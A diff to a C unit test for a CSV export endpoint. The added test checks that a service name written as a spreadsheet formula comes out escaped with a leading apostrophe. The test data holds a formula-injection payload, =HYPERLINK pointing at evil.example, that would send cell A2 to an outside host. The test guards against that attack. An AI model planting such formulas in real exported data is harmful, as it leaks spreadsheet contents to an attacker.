@@ -218,6 +218,30 @@ static void csv_matches_the_table(void **state)
     assert_int_equal(nosv, 1);
     assert_true(fam_raasepori);
     tresp_free(&r);
+    /* a service named like a formula: text with an apostrophe, the marks still numbers */
+    db *d = testsrv_db(&srv);
+    db_param evil[] = {DB_TEXT("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")")};
+    testdb_exec(d, "UPDATE services SET name_fi = $1 WHERE code = 'diab'", 1, evil);
+    http_get(&c, "/fi/staff/equal-access.csv", NULL, &r);
+    testdb_exec(d, "UPDATE services SET name_fi = 'Diabeteshoitaja' WHERE code = 'diab'", 0, NULL);
+    db_close(d);
+    assert_int_equal(r.status, 200);
+    p = r.body.data + 3;
+    assert_int_equal(csv_record(&p, f, 10), 8);
+    int evil_rows = 0;
+    missing = 0;
+    while (*p) {
+        assert_int_equal(csv_record(&p, f, 10), 8);
+        assert_true(f[0][0] != '=');
+        missing += atoi(f[5]);
+        if (strcmp(f[0], "'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")") == 0) {
+            evil_rows++;
+            assert_true(strcmp(f[5], "0") == 0 || strcmp(f[5], "1") == 0);
+        }
+    }
+    assert_int_equal(evil_rows, 3);
+    assert_int_equal(missing, 5);
+    tresp_free(&r);
     tclient_free(&c);
 }
 
